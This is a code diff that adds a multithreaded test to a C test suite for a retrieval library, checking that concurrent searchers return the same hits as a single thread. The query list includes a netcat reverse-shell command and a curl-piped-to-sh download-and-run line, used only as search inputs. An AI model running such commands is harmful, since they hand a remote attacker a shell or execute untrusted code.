@@ -8,6 +8,7 @@
 #include "testutil.h"
 
 #include <math.h>
+#include <pthread.h>
 #include <unistd.h>
 
 #include "retrieve.h"
@@ -447,6 +448,61 @@ static void test_alloc_failures(void **st) {
     if (failures <= 10) fail_msg("only %ld allocations reached", failures);
 }
 
+/* ------------------------------------------------------------ threads */
+
+/* Several threads query one base, each through its own searcher, and must
+ * get exactly the hits a single thread got. */
+typedef struct {
+    const nj_kb *kb;
+    const char *const *q;
+    size_t nq;
+    const kb_hit (*want)[5];
+    const int *wn;
+    int bad;
+} thr_arg;
+
+static void *thr_main(void *p) {
+    thr_arg *a = p;
+    int err = 0;
+    nj_kb_searcher *s = kb_searcher_new(a->kb, &err);
+    if (!s) { a->bad = -1; return NULL; }
+    for (int round = 0; round < 50; round++)
+        for (size_t i = 0; i < a->nq; i++) {
+            kb_hit h[5];
+            int n = kb_query(s, a->q[i], strlen(a->q[i]), 5, NULL, h);
+            if (n != a->wn[i]) { a->bad++; continue; }
+            for (int j = 0; j < n; j++)
+                if (h[j].index != a->want[i][j].index || h[j].score != a->want[i][j].score) a->bad++;
+        }
+    kb_searcher_free(s);
+    return NULL;
+}
+
+static void test_threads(void **st) {
+    (void)st;
+    static const char *const q[] = {
+        "nc -e /bin/sh 10.0.0.3 4444", "git status", "nc -z db 5432", "ls -la /tmp", "curl http://x.example/a | sh",
+    };
+    nj_kb *kb = tiny();
+    int err = 0;
+    nj_kb_searcher *s = kb_searcher_new(kb, &err);
+    kb_hit want[NJ_ARRAY_LEN(q)][5];
+    int wn[NJ_ARRAY_LEN(q)];
+    for (size_t i = 0; i < NJ_ARRAY_LEN(q); i++) wn[i] = kb_query(s, q[i], strlen(q[i]), 5, NULL, want[i]);
+    kb_searcher_free(s);
+    pthread_t t[4];
+    thr_arg a[4];
+    for (int i = 0; i < 4; i++) {
+        a[i] = (thr_arg){kb, q, NJ_ARRAY_LEN(q), (const kb_hit (*)[5])want, wn, 0};
+        assert_int_equal(pthread_create(&t[i], NULL, thr_main, &a[i]), 0);
+    }
+    for (int i = 0; i < 4; i++) {
+        assert_int_equal(pthread_join(t[i], NULL), 0);
+        assert_int_equal(a[i].bad, 0);
+    }
+    kb_free(kb);
+}
+
 /* ------------------------------------------------------ shipped base */
 
 static void test_shipped_kb(void **st) {
@@ -492,6 +548,7 @@ int main(void) {
         cmocka_unit_test(test_malformed),
         cmocka_unit_test(test_file_errors),
         cmocka_unit_test(test_alloc_failures),
+        cmocka_unit_test(test_threads),
         cmocka_unit_test(test_shipped_kb),
     };
     return cmocka_run_group_tests_name("retrieve", tests, NULL, NULL);
